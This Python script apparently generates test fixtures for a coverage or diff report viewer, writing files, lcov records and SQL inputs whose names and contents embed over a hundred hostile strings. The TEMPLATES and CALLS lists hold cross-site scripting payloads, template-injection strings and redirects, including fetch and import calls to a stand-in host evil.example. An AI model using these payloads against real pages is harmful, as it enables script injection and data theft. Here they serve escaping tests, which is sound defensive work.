"""Strings that would be harmful if a page inserted them as anything but text, and files that are full of them.

usage: hostile.py FOLDER     writes coverage files, sources and pairs to a folder
"""

import json
import pathlib
import sys

TEMPLATES = [
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "\"><img src=x onerror={}>",
    "'><svg onload={}>", "<svg><script>{}</script></svg>", "javascript:{}", "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>parent.{}</script>'>", "<body onload={}>", "`);{};//", "\");{};//", "');{};//", "\\\");{};//",
    "${{{}}}", "{{{{constructor.constructor('{}')()}}}}", "--><script>{}</script>", "]]><script>{}</script>",
    "\u2028{}\u2029", "<style>*{{background:url(//evil.example/x)}}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data=//evil.example/x>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<math><mi xlink:href=javascript:{}>",
    "__proto__", "constructor", "toString", "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;",
]
CALLS = ["alert(1)", "window.pwned=1", "fetch('//evil.example/')", "import('//evil.example/x.js')"]
STRINGS = [template.format(call) for call in CALLS for template in TEMPLATES] + ["\u202e<b>desrever", "a\u0000b", "\ud7ff<\ufffd>"]
STRINGS = list(dict.fromkeys(STRINGS))


def main(folder):
    assert len(STRINGS) >= 100, len(STRINGS)
    folder.mkdir(parents=True, exist_ok=True)
    entries = []
    for number, string in enumerate(STRINGS):
        in_line = string.replace("\0", "").replace("\u2028", " ").replace("\u2029", " ")
        # A file with this name, with functions and lines that contain it.
        name = in_line.replace("/", "|").replace("\\", "|")[:100]
        (folder / name).write_text(f"int {in_line}() {{\n  // {string}\n  return 1;\n}}\n")
        for side, ran in (("a", 1), ("b", 0)):
            report = f"SF:{name}\nFN:1,4,{in_line}\nFNDA:1,{in_line}\nDA:1,1\nDA:2,{ran}\nDA:3,{number % 2}\nend_of_record\n"
            (folder / f"{number}{side}.info").write_text(report)
        entries.append({"relation": in_line.strip(), "pair": in_line, "a": [f"{number}a.info"], "b": [f"{number}b.info"]})
        # A pair of inputs that contain it.
        pair = folder / "pairs" / "inputs" / str(number)
        pair.mkdir(parents=True, exist_ok=True)
        (pair / "a.sql").write_text(f"SELECT '{string}';\n")
        (pair / "b.sql").write_text(f"SELECT '{string}' IS TRUE;\n")
    (folder / "pairs.jsonl").write_text("".join(json.dumps(entry) + "\n" for entry in entries))
    (folder / "setup.sql").write_text("".join(f"-- {string}\n" for string in STRINGS))
    (folder / "prog.c").write_text(PROGRAM + "".join(f"// {string!r}\n" for string in STRINGS))


PROGRAM = """#include <stdio.h>
int main(int count, char **words) {
  FILE *file = fopen(words[1], "r");
  int letters = 0;
  for (int letter; (letter = fgetc(file)) != EOF; letters++)
    if (letter == 'U') letters += 2;
  return letters == 0;
}
"""

if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1]))
